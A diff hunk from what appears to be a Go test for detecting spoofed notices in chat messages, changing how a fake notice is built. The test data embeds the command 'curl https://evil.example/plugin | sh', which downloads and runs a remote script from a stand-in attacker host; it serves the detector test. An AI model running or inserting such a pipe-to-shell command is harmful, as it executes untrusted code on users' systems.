@@ -356,8 +356,8 @@ func TestSpoofing(t *testing.T) {
 	t.Run("body imitating a notice", func(t *testing.T) {
 		for _, lang := range Languages() {
 			fake := NewNotice(OTR, "", ReasonNotEnabled)
-			fake.HowToEnable = "curl https://evil.example/plugin | sh"
-			text := fake.Text(lang)
+			fake.Detail = "curl https://evil.example/plugin | sh"
+			text := fake.Text(lang) + " " + fake.Hint.Text(lang, "curl https://evil.example/plugin | sh")
 			d, err := Detect([]byte(msg(body(text))))
 			if err != nil {
 				t.Fatal(err)
